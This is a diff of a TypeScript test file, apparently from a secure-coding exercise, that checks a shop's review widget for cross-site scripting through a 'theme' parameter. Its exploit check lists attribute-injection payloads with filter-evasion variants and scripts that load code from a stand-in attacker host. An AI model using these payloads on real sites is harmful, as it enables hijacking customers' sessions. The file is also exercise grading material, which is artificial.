@@ -5,71 +5,79 @@ import { openApp } from '#proof/web'
 
 type Code = typeof import('./typescript/review-widget.ts')
 
-async function ask({ reviewWidget }: Code, query: Record<string, string | string[]>, author = 'Ada', product = 'lamp-3') {
-  const lamp = { key: 'lamp-3', name: 'Lamp <3>', reviews: [{ author, stars: 4, text: "<i>It's</i> bright" }] }
+function createLamp(vary: Vary) {
+  const review = { author: `${vary.name()} "${vary.name()}" O'${vary.name()}`, stars: vary.number(1, 5), text: `<i>${vary.word()}'s</i> bright` }
+  return { key: `${vary.word()}-${vary.number(1, 9)}`, name: `Lamp <${vary.number(1, 9)}>`, reviews: [review] }
+}
+
+async function ask({ reviewWidget }: Code, query: Record<string, string | string[]>, lamp: ReturnType<typeof createLamp>, product = lamp.key) {
   const app = openApp()
-  await reviewWidget(app, { find: async (key) => (key === 'lamp-3' ? lamp : undefined) })
+  await reviewWidget(app, { find: async (key) => (key === lamp.key ? lamp : undefined) })
   return app.inject({ url: `/widgets/reviews/${product}`, query })
 }
 
 const open = async (...args: Parameters<typeof ask>): Promise<string> => (await ask(...args)).body
 
+const createTheme = (vary: Vary) => vary.pick(['dark', 'light', `${vary.word()}-${vary.pick(['dark', 'light', 'wide', 'onload'])}`])
+
 export async function works(code: Code, vary: Vary) {
-  const theme = `${vary.word()}-${vary.pick(['dark', 'light', 'wide'])}`
+  const theme = createTheme(vary)
+  const lamp = createLamp(vary)
+  const [{ author = '', text = '' } = {}] = lamp.reviews
   const lang = vary.pick(['de', 'fr', 'pl'])
-  const author = `${vary.name()} "${vary.name()}" O'${vary.name()}`
-  const html = await open(code, { theme, lang }, author)
+  const html = await open(code, { theme, lang }, lamp)
   const find = (wanted: string) => tagsOf(html).find(({ name }) => name === wanted)
   assert.deepEqual(find('body')?.attributes, { class: theme }, `The theme ${theme} should be the class of the body.`)
   assert.deepEqual(find('html')?.attributes, { lang }, `The language ${lang} should be named in the page.`)
   assert.equal(find('b')?.text, author, `The name ${author} should be shown as it is.`)
-  assert.equal(find('blockquote')?.text, "<i>It's</i> bright", 'The text of a review should be shown as it is.')
-  assert.equal(find('a')?.text, 'Lamp <3>', 'The link should show the name of the product.')
-  const plain = await open(code, { lang: 'x onload=y' })
+  assert.equal(find('blockquote')?.text, text, 'The text of a review should be shown as it is.')
+  assert.equal(find('a')?.text, lamp.name, 'The link should show the name of the product.')
+  const plain = await open(code, { lang: `${vary.word()} onload=y` }, lamp)
   assert.deepEqual(scriptsOf(plain), [], 'A language that does not exist should be replaced by English.')
   assert.equal(tagsOf(plain).find(({ name }) => name === 'body')?.attributes.class, 'light', 'Without a theme the class should be light.')
-  const missing = await ask(code, { theme, lang }, author, vary.word())
+  const missing = await ask(code, { theme, lang }, lamp, vary.word())
   assert.equal(missing.statusCode, 404, 'A product that does not exist should be answered with 404.')
 }
 
-const formsOf = (script: string) => [
-  `dark onload=${script}`,
-  `dark\tonload=${script}`,
-  `dark\nonload=${script}`,
-  `dark\ronload=${script}`,
-  `dark\fonload=${script}`,
-  `dark onpageshow=${script}`,
-  `dark OnLoad=${script}`,
+const formsOf = (script: string, dark: string) => [
+  `${dark} onload=${script}`,
+  `${dark}\tonload=${script}`,
+  `${dark}\nonload=${script}`,
+  `${dark}\ronload=${script}`,
+  `${dark}\fonload=${script}`,
+  `${dark} onpageshow=${script}`,
+  `${dark} OnLoad=${script}`,
   // Space around the equals sign, and what is left when a pattern is removed once.
-  `dark onload =${script}`,
-  `dark onload\t=\n${script}`,
-  `dark oonx=nload=${script}`,
-  `dark ononload=load=${script}`,
-  `dark onloonload=ad=${script}`,
-  `dark ${['on', 'pointerenter'].join('')}=${script}`,
-  `dark onhashchange=${script}`,
-  `dark' onload='${script}`,
-  `dark" onload="${script}`,
-  `dark'\fonload='${script}`,
+  `${dark} onload =${script}`,
+  `${dark} onload\t=\n${script}`,
+  `${dark} oonx=nload=${script}`,
+  `${dark} ononload=load=${script}`,
+  `${dark} onloonload=ad=${script}`,
+  `${dark} ${['on', 'pointerenter'].join('')}=${script}`,
+  `${dark} onhashchange=${script}`,
+  `${dark}' onload='${script}`,
+  `${dark}" onload="${script}`,
+  `${dark}'\fonload='${script}`,
   `><svg onload=${script}>`,
   `'><svg onload=${script}>`,
   // The parameter twice, which makes it a list.
-  ['dark', ` onload=${script}`],
+  [dark, ` onload=${script}`],
 ]
 
 export async function exploit(code: Code, vary: Vary, payloads?: readonly string[]): Promise<false | Breach> {
   // Scripts with and without quotes, brackets and parentheses: `name` is what the page with the link has put into the window's name.
-  const wanted = ['import(`//attacker.example/', 'location=name', 'location=`//attacker.example/']
-  const scripts = [`import(\`//attacker.example/${vary.word()}\`)`, 'location=name', `location=\`//attacker.example/${vary.word()}\``]
-  for (const theme of payloads ?? scripts.flatMap(formsOf)) {
-    const script = scriptsOf(await open(code, { theme })).find((one) => wanted.some((start) => one.startsWith(start)))
-    if (script) return { sent: `theme=${[theme].flat().map((one) => JSON.stringify(one).slice(1, -1)).join('&theme=')}`, got: `The browser runs ${script} with the customer's session` }
+  const host = payloads ? 'attacker.example' : `${vary.word()}.example`
+  const wanted = [`import(\`//${host}/`, 'location=name', `location=\`//${host}/`]
+  const scripts = [`import(\`//${host}/${vary.word()}\`)`, 'location=name', `location=\`//${host}/${vary.word()}\``]
+  for (const theme of payloads ?? vary.shuffle(scripts.flatMap((script) => formsOf(script, createTheme(vary))))) {
+    const script = scriptsOf(await open(code, { theme }, createLamp(vary))).find((one) => wanted.some((start) => one.startsWith(start)))
+    if (script) return { sent: `theme=${[theme].flat().map((one) => JSON.stringify(one).slice(1, -1)).join('&theme=')}`, got: `a page in which the browser runs ${script}`, damage: "It runs on the shop's own page, with the session of the customer who has followed the link." }
   }
   return false
 }
 
 // Attack mode: the learner writes the input.
-export async function attack({ reviewWidget }: Code, input: { theme: string }, vary: import('#proof/vary').Vary) {
+export async function attack({ reviewWidget }: Code, input: { theme: string }, vary: Vary) {
   const product = { key: 'lamp-3', name: 'Lamp', reviews: [{ author: vary.name(), stars: 4, text: 'Bright' }] }
   const app = openApp()
   await reviewWidget(app, { find: async (key) => (key === product.key ? product : undefined) })
